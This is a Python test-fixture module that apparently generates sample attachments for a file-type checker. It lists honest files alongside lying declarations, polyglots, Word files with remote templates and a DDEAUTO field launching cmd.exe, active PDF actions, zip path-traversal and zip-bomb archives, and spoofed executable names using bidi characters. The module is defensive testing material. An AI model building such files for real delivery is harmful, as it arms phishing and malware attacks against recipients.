# SPDX-License-Identifier: GPL-3.0-or-later
"""shapes_filetype - files that are not what they are declared, two things at once, or that reach
out when they are opened; and what honest mail programs do to the same files. Pitfalls, §2.2
"File type lies"."""

import io
import struct
import zipfile

from . import files
from .expect import bad, doubt, good
from .shapes import Shape as S
from .shapes_content import extra, one_file

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + bytes(60) + b"\xff\xd9"

DOUBT = doubt("filetype")
DIRTY = bad("filetype")


def declared(ctype, name=None, change=lambda data: data, **options):
	"""The document, declared so."""
	return lambda k: k.signed(k.content(k.note(), k.file(change(k.pdf(k.doc())), name and name % k.number,
		ctype=ctype, **options)))


def office(part, rels, kind="docx"):
	"""A Word file whose part has these relationships: (type, target, external)."""
	base = zipfile.ZipFile(io.BytesIO(files.docx("Biểu mẫu")))
	members = {n: base.read(n) for n in base.namelist()}
	body = "".join('<Relationship Id="r%d" Type="%s/%s" Target="%s"%s/>' % (i, RELS, t, target,
		' TargetMode="External"' if far else "") for i, (t, target, far) in enumerate(rels))
	members["word/_rels/%s.rels" % part] = ('<?xml version="1.0"?><Relationships xmlns="http://schemas'
		'.openxmlformats.org/package/2006/relationships">%s</Relationships>' % body).encode()
	return files.archive(members)


def field(code, prefix=b"w"):
	"""A Word file with a field, its code split over two runs; prefix: of Word's namespace."""
	base = zipfile.ZipFile(io.BytesIO(files.docx("MARK")))
	members = {n: base.read(n) for n in base.namelist()}
	runs = ('<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r><w:r>'
		'<w:instrText xml:space="preserve">%s</w:instrText>' % (code[:5], code[5:])).encode()
	page = members["word/document.xml"].replace(b"<w:t>MARK</w:t>", runs)
	for before in b"<", b"</", b" ", b"xmlns:":
		page = page.replace(before + b"w:", before + prefix + b":")
	members["word/document.xml"] = page.replace(b"xmlns:w=", b"xmlns:" + prefix + b"=")
	return files.archive(members)


def reaching(rels, part="settings.xml"):
	return extra(office(part, rels), "bieu_mau.docx", DOCX)


def page(body, name="bieu_mau.html", ctype="text/html"):
	return extra(b"<html><body>" + body + b"</body></html>\r\n", name, ctype)


def rtf(inside):
	return extra(b"{\\rtf1\\ansi " + inside + b" Bieu mau\\par}\r\n", "bieu_mau.rtf", "application/rtf")


def acting(words):
	"""The document with one more object in an update, as programs append them."""
	return declared("application/pdf", change=lambda data: data + b"\n9 0 obj\n<<" + words
		+ b">>\nendobj\nstartxref\n0\n%%EOF\n")


def lying_bomb():
	"""Twelve members that share one packed body: together more than the file has."""
	data = files.archive({"a%02d.txt" % i: bytes(1 << 20) for i in range(12)})
	out = bytearray(data)
	first = out.index(b"PK\1\2")
	at = first
	while out[at:at + 4] == b"PK\1\2":
		struct.pack_into("<I", out, at + 20, len(data))
		struct.pack_into("<I", out, at + 42, 0)
		n = struct.unpack_from("<HHH", out, at + 28)
		at += 46 + sum(n)
	return bytes(out)


def member(name, data=b"1\r\n"):
	return extra(files.archive({name: data}), "so_lieu.zip", "application/zip")


ZIP = files.archive({"so_lieu.txt": b"1\r\n"})
HONEST = good()
ARCHIVED = doubt("filetype")

TABLE = [
	# honest declarations
	S("type-force-download", declared("application/force-download"), "force-download", HONEST),
	S("type-x-download", declared("application/x-download"), "x-download", HONEST),
	S("type-x-pdf", declared("application/x-pdf"), "application/x-pdf", HONEST),
	S("type-unknown", declared("application/unknown"), "application/unknown", HONEST),
	S("type-pdf-upper", declared("application/PDF", "%s_SNV-VP.PDF"), "PDF in capitals", HONEST),
	S("type-msword-docx", extra(files.docx("mẫu một"), "bieu_mau.docx", "application/msword"),
		"a docx declared application/msword", HONEST),
	S("type-zip-docx", extra(files.docx("mẫu hai"), "bieu_mau.docx", "application/zip"),
		"a docx declared application/zip", HONEST),
	S("type-excel-csv", extra("STT,Họ tên\r\n1,A\r\n".encode(), "so_lieu.csv",
		"application/vnd.ms-excel"), "a csv declared as Windows does", HONEST),
	S("type-excel-12", extra(files.xlsx("bảng ba"), "so_lieu.xlsx",
		"application/vnd.ms-excel.sheet.12"), "an xlsx declared vnd.ms-excel.sheet.12", HONEST),
	S("type-jpg", extra(JPEG, "anh.jpg", "image/jpg"), "a JPEG declared image/jpg", HONEST),
	S("type-jpeg-png", extra(files.png(grey=90), "anh.jpg", "image/jpeg"), "a PNG named and declared JPEG",
		HONEST),
	S("type-htm", page(b"<p>Bieu mau</p><a href=\"http://a.example/\">x</a>", "bieu_mau.htm"),
		"plain HTML named .htm, with a link", HONEST),
	S("type-x-zip", extra(ZIP, "so_lieu.zip", "application/x-zip-compressed"),
		"a ZIP declared x-zip-compressed: an archive, no lie", ARCHIVED),
	# lies
	S("type-pdf-as-text", declared("text/plain"), "a PDF declared text/plain", DOUBT),
	S("type-zip-as-text", extra(ZIP, "so_lieu.zip", "text/plain"), "a ZIP declared text/plain", DOUBT),
	S("type-html-as-pdf", page(b"<p>x</p>", "bieu_mau.htm", "application/pdf"),
		"HTML declared application/pdf", DOUBT),
	S("type-docx-as-image", extra(files.docx("x"), "bieu_mau.docx", "image/jpeg"),
		"a docx declared image/jpeg", DOUBT),
	S("type-pdf-as-audio", declared("audio/mpeg"), "a PDF declared audio/mpeg", DOUBT),
	# two things at once
	S("foreign-pdf-before", declared("application/pdf", change=lambda d: b"GIF89b junk\n" + d),
		"data before %PDF", DOUBT),
	S("foreign-pdf-bom", declared("application/pdf", change=lambda d: b"\xef\xbb\xbf\r\n" + d),
		"a byte order mark before %PDF: left by web programs", good(verdict=["good", "doubt"],
			office=["registered", "held"])),
	S("foreign-pdf-nuls", declared("application/pdf", change=lambda d: d + b"\r\n\0\0\0\0"),
		"NULs behind %%EOF: padding", HONEST),
	S("foreign-pdf-zip", declared("application/pdf", change=lambda d: d + ZIP), "PDF and ZIP", DOUBT),
	S("foreign-pdf-zip-hidden", declared("application/pdf", change=lambda d: d + b"1 0 obj\n"
		+ ZIP[:-2] + b"\7\0\n%%EOF\n"), "the same with a PDF's end as comment of the ZIP", DOUBT),
	S("foreign-pdf-html", declared("application/pdf", change=lambda d: d
		+ b"<script>alert(1)</script>\n%%EOF\n"), "PDF and HTML", DOUBT),
	S("foreign-gif-script", extra(b"GIF89a/*" + GIF[8:] + b"*/=1;alert(1);", "anh.gif", "image/gif"),
		"GIF and script", DOUBT),
	S("foreign-gif-zip", extra(GIF + ZIP, "anh.gif", "image/gif"), "GIF and ZIP", DOUBT),
	S("foreign-png-zip", extra(files.png() + ZIP, "anh.png", "image/png"), "PNG and ZIP", DOUBT),
	S("foreign-png-html", extra(files.png() + b"<script>", "anh.png", "image/png"), "PNG and HTML",
		DOUBT),
	S("foreign-jpeg-tail", extra(JPEG + b"\0\0\0\x18ftypmp42" + bytes(200), "anh.jpg", "image/jpeg"),
		"a phone's film behind a JPEG", HONEST),
	S("foreign-zip-before", extra(b"PK\3\4" + bytes(60) + ZIP, "so_lieu.zip", "application/zip"),
		"data before an archive", DOUBT),
	S("foreign-docx-behind", extra(files.docx("x") + b"junk", "bieu_mau.docx", DOCX),
		"data behind a Word file", DOUBT),
	S("foreign-docx-before", extra(b"PK\3\4" + bytes(26) + files.docx("x"), "bieu_mau.docx", DOCX),
		"data before a Word file", DOUBT),
	# reaching out
	S("remote-template", reaching([("attachedTemplate", "https://a.example/x.dotm", True)]),
		"a Word file with a template elsewhere", DOUBT),
	S("remote-template-unc", reaching([("attachedTemplate", "file:///\\\\a.example\\x.dotm", True)]),
		"the same by UNC path", DOUBT),
	S("remote-template-own", reaching([("attachedTemplate",
		"file:///C:\\Users\\a\\Templates\\cong_van.dotm", True)]),
		"the template of the author's own disk: common", HONEST),
	S("remote-hyperlink", reaching([("hyperlink", "https://a.example/", True)], "document.xml"),
		"a link: harmless", HONEST),
	S("remote-ole", reaching([("oleObject", "mhtml:https://a.example/!x", True)], "document.xml"),
		"a linked object elsewhere", DOUBT),
	S("remote-frame", reaching([("frame", "http://a.example/", True)], "webSettings.xml"),
		"a frame elsewhere", DOUBT),
	S("remote-picture", reaching([("image", "http://a.example/1.png", True)], "document.xml"),
		"a picture elsewhere", DOUBT),
	S("remote-dde", extra(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k"'), "bieu_mau.docx",
		DOCX), "a DDE field, split over runs", DOUBT),
	S("remote-include", extra(field('INCLUDEPICTURE "http://a.example/1.png"'), "bieu_mau.docx", DOCX),
		"a field that fetches", DOUBT),
	S("remote-dde-prefix", extra(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k"', b"x"),
		"bieu_mau.docx", DOCX), "the same under another prefix of the namespace", DOUBT),
	S("remote-page-field", extra(field(" PAGE \\* MERGEFORMAT"), "bieu_mau.docx", DOCX),
		"a field with the page number", HONEST),
	S("remote-rtf-template", rtf(b"{\\*\\template http://a.example/x.dotm}"),
		"an RTF with a template elsewhere", DOUBT),
	S("remote-rtf-template-own", rtf(b"{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}"),
		"an RTF with the author's own template", HONEST),
	S("remote-rtf-update", rtf(b"{\\object\\objemb\\objupdate{\\*\\objdata 0105}}"),
		"an RTF with an object that updates itself", DOUBT),
	S("remote-html-script", page(b"<script>alert(1)</script>"), "HTML with a script", DOUBT),
	S("remote-html-handler", page(b"<img src=x.png onerror=\"x()\">"), "HTML with a handler", DOUBT),
	S("remote-html-picture", page(b"<img src=\"http://a.example/1.png\">"),
		"HTML that fetches a picture", DOUBT),
	S("remote-html-form", page(b"<form action=\"https://a.example/login\"><input></form>"),
		"HTML with a form that sends elsewhere", DOUBT),
	S("remote-html-refresh", page(b"<meta http-equiv=\"refresh\" content=\"0;url=http://a.example\">"),
		"HTML that leads elsewhere", DOUBT),
	S("remote-svg", extra(b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">"
		b"<script>alert(1)</script></svg>\r\n", "so_do.svg", "image/svg+xml"), "SVG with a script",
		DOUBT),
	S("pdf-uri", acting(b"/Type/Action/S/URI/URI(http://a.example/)"), "a PDF with a link: harmless",
		good(verdict=["good"])),
	S("pdf-submit", acting(b"/Type/Action/S/SubmitForm/F(http://a.example/)"),
		"a PDF that submits a form", DOUBT),
	S("pdf-import", acting(b"/Type/Action/S/ImportData/F(x.fdf)"), "a PDF that imports data", DOUBT),
	S("pdf-go-elsewhere", acting(b"/Type/Action/S/GoToR/F(\\\\\\\\a.example\\\\x.pdf)"),
		"a PDF that opens another file", DOUBT),
	S("pdf-go-embedded", acting(b"/Type/Action/S/GoToE"), "a PDF that opens a file in it", DOUBT),
	S("pdf-rich-media", acting(b"/Type/Annot/Subtype/RichMedia"), "a PDF with rich media", DOUBT),
	S("pdf-xfa", acting(b"/XFA 7 0 R"), "a PDF with an XFA form", DOUBT),
	S("pdf-escaped-name", acting(b"/Type/Action/S/Java#53cript"), "an escaped name", DOUBT),
	# archives
	S("zip-climbs", member("../../etc/cron.d/x"), "a member that climbs", DIRTY),
	S("zip-climbs-windows", member("..\\..\\x.txt"), "the same with backslashes", DIRTY),
	S("zip-absolute", member("/etc/passwd"), "a member with an absolute path", DIRTY),
	S("zip-double", member("cong_van.pdf.exe", files.MZ), "a member with a double extension", DIRTY),
	S("zip-rtlo", member("cong_van\u202efdp.txt"), "a bidi control in a member's name", DIRTY),
	S("zip-docm", member("bieu_mau.docm", files.docx("x", True)), "macros in an archive", DIRTY),
	S("zip-nested", member("trong.zip", ZIP), "an archive in an archive", DOUBT),
	S("zip-many", lambda k: one_file(k, files.archive({"%d.txt" % i: b"" for i in range(2001)}),
		"so_lieu.zip", "application/zip"), "2,001 members", DOUBT, lf=False),
	S("zip-overlap", lambda k: one_file(k, lying_bomb(), "so_lieu.zip", "application/zip"),
		"members that share one body", DOUBT, lf=False),
	S("docx-encrypted-member", extra(files.encrypted_zip("so_lieu.xlsx"), "so_lieu.zip",
		"application/zip"), "an encrypted member: cannot be checked", DOUBT),
	# names
	S("name-isolate", extra(files.png(), "anh\u2066gnp.png", "image/png"), "U+2066 in a name", DIRTY),
	S("name-full-width-dot", extra(files.png(), "cong_van．pdf．png", "image/png"),
		"full-width full stops", DIRTY),
	S("name-blank-exe", extra(files.MZ, "cong_van.pdf .exe"), "a blank before .exe", DIRTY),
	S("name-far-extension", extra(files.png(), "cong_van.pdf" + "\u00a0" * 30 + ".png", "image/png"),
		"thirty no-break blanks before the extension", DIRTY),
	S("name-trailing", extra(files.MZ, "cong_van.exe. . "), "dots and blanks behind .exe", DIRTY),
	S("name-joiner-exe", extra(files.MZ, "cong_van.PDF\u2060.exe"), "a word joiner before .exe", DIRTY),
	S("name-soft-hyphen", extra(files.png(), "anh\u00ad.png", "image/png"), "a soft hyphen", DIRTY),
]
